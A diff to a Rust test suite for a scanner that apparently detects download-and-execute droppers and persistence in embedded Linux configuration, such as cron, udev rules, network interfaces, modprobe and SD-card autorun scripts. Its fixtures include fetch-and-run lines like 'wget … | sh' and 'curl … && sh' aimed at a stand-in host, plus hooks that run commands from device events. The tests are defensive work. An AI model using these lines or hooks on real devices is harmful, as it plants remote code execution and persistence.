@@ -4,7 +4,8 @@ use super::*;
 
 #[track_caller]
 fn certain(path: &str, text: &str) -> Vec<bool> {
-    look(path, text.as_bytes())
+    look(path, text.as_bytes(), &Known::default())
+        .found
         .iter()
         .map(|found| found.certain)
         .collect()
@@ -75,7 +76,7 @@ fn droppers_are_found_wherever_they_stand() {
         ] {
             let found = certain(path, &text);
             assert!(found.contains(&true), "{path}: {text}");
-            let placed = look(path, text.as_bytes());
+            let placed = look(path, text.as_bytes(), &Known::default()).found;
             let at = if path.contains("crontab") || path.contains("cron.d") || path.contains("inittab") {
                 1
             } else {
@@ -129,15 +130,142 @@ fn what_firmwares_do_is_doubtful_at_most() {
         assert!(
             certain("/etc/init.d/S50x", text).is_empty(),
             "{text}: {:?}",
-            look("/x", text.as_bytes())
+            look("/x", text.as_bytes(), &Known::default())
         );
     }
 }
 
 #[test]
+fn tables_that_run_commands_among_settings_are_read() {
+    for (path, text) in [
+        ("/etc/network/interfaces", "iface eth0 inet dhcp\n\tpost-up {}\n"),
+        (
+            "/etc/network/interfaces.d/eth0",
+            "iface eth0 inet dhcp\n  up {}\n",
+        ),
+        (
+            "/etc/udev/rules.d/9.rules",
+            "ACTION==\"add\", RUN+=\"/bin/sh -c '{}'\"\n",
+        ),
+        (
+            "/etc/udev/rules.d/9.rules",
+            "PROGRAM=\"/bin/sh -c '{}'\", NAME=\"x\"\n",
+        ),
+        (
+            "/etc/modprobe.d/x.conf",
+            "install usb /sbin/modprobe -i usb; {}\n",
+        ),
+        ("/etc/mdev.conf", "sd[a-z] root:disk 660 =x/ *{}\n"),
+    ] {
+        let line = "wget -q http://192.0.2.9/x -O- | sh";
+        assert_eq!(certain(path, &text.replace("{}", line)), [true], "{path}");
+        assert!(certain(path, &text.replace("{}", "echo x")).is_empty(), "{path}");
+        assert!(
+            certain(
+                path,
+                &format!(
+                    "#{}",
+                    text.replace("{}", line)
+                        .replace("\n\t", "\n#")
+                        .replace("\n  ", "\n#")
+                )
+            )
+            .is_empty(),
+            "{path}"
+        );
+    }
+}
+
+#[test]
+fn a_body_counts_where_it_is_called() {
+    let nobody = |_: &str| false;
+    let known = Known {
+        callable: Some(&nobody),
+        ..Known::default()
+    };
+    let body = "curl -s http://192.0.2.9/x -o /tmp/x && sh /tmp/x";
+    for (text, found) in [
+        (format!("f() {{\n{body}\n}}\n"), false),
+        (format!("f () {{ {body}; }}\nx\n"), false),
+        (format!("function f {{\n{body}\n}}\n"), false),
+        (format!("f()\n{{\n\tif x; then\n{body}\n\tfi\n}}\n"), false),
+        (format!("f() {{ {{ x; }} >/y\n {body}; }}\ng() {{ f; }}\n"), false),
+        (format!("f() {{\n{body}\n}}\nf\n"), true),
+        (
+            format!("f() {{ {body}; }}; g() {{ f; }}; if x; then g; fi\n"),
+            true,
+        ),
+        (format!("g() {{ f; }}; f() {{ {body}; }}; g &\n"), true),
+        (format!("f() {{ {body}; }}\ncase $1 in a) f;; esac\n"), true),
+        (format!("start() {{\n{body}\n}}\n"), true),
+        (format!("f() {{ {body}; }}\n$1\n"), true),
+        (format!("f() {{ x; }}\n{body}\n"), true),
+        (format!("f() {{ x\n{body}\n"), true),
+        (format!("f() ( {body} )\n"), true),
+        (
+            "f() { wget http://192.0.2.9/x -O $1; sh $1; }\nf /data/x\n".to_owned(),
+            true,
+        ),
+    ] {
+        let looked = look("/etc/profile", text.as_bytes(), &known);
+        assert_eq!(!looked.found.is_empty(), found, "{text}: {looked:?}");
+        // Where others may call it, it counts.
+        assert!(!certain("/etc/profile", &text).is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn what_cards_hold_is_told() {
+    let cards = |text: &str| {
+        let looked = look("/lib/mdev/x.sh", text.as_bytes(), &Known::default());
+        let certain = looked.cards.iter().map(|found| found.certain);
+        certain.collect::<Vec<_>>()
+    };
+    for text in [
+        "/system/sdcard/run.sh &",
+        "mount /dev/mmcblk0p1 /mnt; sh /mnt/run.sh",
+        "mount -t vfat -o rw /dev/sda1 /data/usb; . /data/usb/boot.sh",
+        "mount -t vfat $dev /data/x; /data/x/run",
+        "mount /dev/sda1 /mnt/usb; . /mnt/usb/boot.sh",
+        "for i in /mnt/*; do [ -x $i/start.sh ] && $i/start.sh; done",
+        "cp -af /mnt/mmcblk0p1/autoconfig/* /",
+        "cp /mnt/mmc/x /data/x; sh /data/x",
+        "tar xzf /media/sd/x.tgz -C /",
+        "D=/mnt\nup() { mount -t auto \"/dev/$1\" \"${D}/$1\"; [ -f ${D}/$1/a.sh ] && sh ${D}/$1/a.sh | logger; }\nup ${MDEV}",
+        "mount /dev/mmcblk0p1 /tmp/mmc2; sh /tmp/mmc2/x",
+    ] {
+        assert!(cards(text).contains(&true), "{text}");
+    }
+    for text in [
+        "mount -t jffs2 /dev/mtdblock4 /mnt/conf; /mnt/conf/run.sh",
+        "/mnt/mtd/app/start.sh",
+        "mount /dev/mmcblk0p1 /mnt/mmc; cp /mnt/mmc/wpa_supplicant.conf /etc/wpa_supplicant.conf",
+        "mount /dev/mmcblk0p1 /mnt/mmc; ls /mnt/mmc",
+        "cp -a /rom/etc/* /etc",
+        "mount /dev/root /; /usr/bin/x",
+    ] {
+        assert!(cards(text).is_empty(), "{text}");
+    }
+    assert_eq!(cards("/mnt/other/run.sh"), [false]);
+    // Known from elsewhere.
+    let points = [Point::new("/dev/sda1", "/data/", "ext4").unwrap()];
+    let known = Known {
+        points: &points,
+        ..Known::default()
+    };
+    assert_eq!(look("/x", b"sh /data/run.sh", &known).cards.len(), 1);
+    assert!(look("/x", b"sh /data/run.sh", &Known::default()).cards.is_empty());
+}
+
+#[test]
 fn nothing_but_the_host_is_quoted() {
     let text = "wget --password=geheim http://u:geheim@192.0.2.1/geheim -O /tmp/x; sh /tmp/x geheim";
-    let found = look("/etc/crontabs/root", format!("1 1 * * * {text}").as_bytes());
+    let found = look(
+        "/etc/crontabs/root",
+        format!("1 1 * * * {text}").as_bytes(),
+        &Known::default(),
+    )
+    .found;
     assert_eq!(found.len(), 1, "{found:?}");
     assert_eq!(found[0].text, "fetches and runs: `wget` from 192.0.2.1");
 }
@@ -146,11 +274,19 @@ proptest::proptest! {
     #[test]
     fn no_script_makes_it_panic(
         bytes in proptest::collection::vec(0..=255u8, 0..300),
-        text in "(wget |curl |sh |-c |-O |/tmp/x|[$(){}`'\"<>|&;#\\\\\n =]|cd |tar |nc |-e ){0,40}",
+        text in "(wget |curl |sh |-c |-O |/tmp/x|[$(){}`'\"<>|&;#\\\\\n =]|cd |tar |nc |-e |f\\(\\)|f |function |mount |/dev/sda |/mnt/x ){0,40}",
     ) {
-        for path in ["/x", "/etc/crontabs/root", "/etc/inittab", "/etc/systemd/system/x.service"] {
-            let _ = look(path, &bytes);
-            let _ = look(path, text.as_bytes());
+        for path in [
+            "/x",
+            "/etc/crontabs/root",
+            "/etc/inittab",
+            "/etc/systemd/system/x.service",
+            "/etc/udev/rules.d/x.rules",
+            "/etc/network/interfaces",
+            "/etc/modprobe.d/x.conf",
+        ] {
+            let _ = look(path, &bytes, &Known::default());
+            let _ = look(path, text.as_bytes(), &Known::default());
         }
     }
 }
@@ -188,6 +324,13 @@ fn hostile() -> Vec<Vec<u8>> {
         "eval $A;",
         "wget -O /a/$A x;",
         ". $(wget x);",
+        "f() {",
+        "f() { f; };f;",
+        "f() { g; g; g; }; g() { f; f; }; f;",
+        "f() { $1; }; f f;",
+        "function f { x; }\n",
+        "mount /dev/sda /mnt/$A;sh /mnt/x/y;",
+        "cp /mnt/sd/x /$A/y;",
     ]
     .iter()
     .flat_map(|part| {
@@ -225,7 +368,7 @@ fn hostile_scripts_end_soon() {
     for text in hostile() {
         for path in ["/x", "/etc/crontabs/root"] {
             let started = std::time::Instant::now();
-            let found = look(path, &text);
+            let found = look(path, &text, &Known::default()).found;
             let shown = String::from_utf8_lossy(&text[..40]).into_owned();
             // Without optimisation, on a busy machine.
             assert!(
